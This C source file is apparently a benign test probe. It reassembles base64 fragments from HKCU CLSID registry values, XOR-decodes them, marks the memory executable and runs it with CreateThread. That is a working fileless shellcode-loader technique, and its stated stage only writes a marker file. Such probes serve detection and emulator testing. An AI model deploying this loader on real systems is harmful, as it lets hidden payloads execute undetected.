/*
 * loader.c - probe: a payload stored as base64 text in several registry values, found by
 * enumerating the key's values (RegEnumValueA) and joined before one decode (benign,
 * emulator-only; see ../../lineage-common/common.h).
 *
 * HKCU\Software\Classes\CLSID\{...}\Cache holds values "0", "1", "2", ... (REG_SZ, base64
 * fragments) and a decoy REG_DWORD; RegQueryInfoKeyA gives their count, RegEnumValueA each one,
 * the REG_SZ ones appended to one buffer in the order listed, then CryptStringToBinaryA
 * (CRYPT_STRING_BASE64) into new RW memory, XOR 0x4d in place, VirtualProtect RX, CreateThread.
 * The stage writes C:\Users\Public\lineage_regenum.txt.
 * Exit codes: 0 ok, 1 no marker, 2 registry, 3 decode, 4 memory, 5 thread.
 */
#include "common.h"
#include <wincrypt.h>

void Entry(void)
{
    static struct sc_ctx ctx;
    static char text[0x2000];
    char name[32];
    DWORD values = 0, i, len = 0, name_len, type, size, out = 0, old;
    HKEY key;
    unsigned char *code;
    HANDLE thread;

    if (!marker_present())
        ExitProcess(1);
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\Classes\\CLSID\\{8a3c2f10-5b7e-4d21-9c44-1f0e6a7b2d90}\\Cache", 0,
                      KEY_READ, &key) != ERROR_SUCCESS)
        ExitProcess(2);
    if (RegQueryInfoKeyA(key, 0, 0, 0, 0, 0, 0, &values, 0, 0, 0, 0) != ERROR_SUCCESS || values == 0)
        ExitProcess(2);
    for (i = 0; i < values; i++) {
        name_len = sizeof(name);
        size = sizeof(text) - len;
        if (RegEnumValueA(key, i, name, &name_len, 0, &type, (BYTE *)text + len, &size) != ERROR_SUCCESS)
            ExitProcess(2);
        if (type == REG_SZ && size > 1)
            len += size - 1; /* drop the NUL: the next fragment continues the text */
    }
    RegCloseKey(key);
    text[len] = 0;
    if (!CryptStringToBinaryA(text, len, CRYPT_STRING_BASE64, 0, &out, 0, 0) || out == 0)
        ExitProcess(3);
    code = (unsigned char *)VirtualAlloc(0, out, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(4);
    if (!CryptStringToBinaryA(text, len, CRYPT_STRING_BASE64, code, &out, 0, 0))
        ExitProcess(3);
    for (i = 0; i < out; i++)
        code[i] ^= 0x4d;
    if (!VirtualProtect(code, out, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_regenum.txt", "joined from enumerated registry values\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)code, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
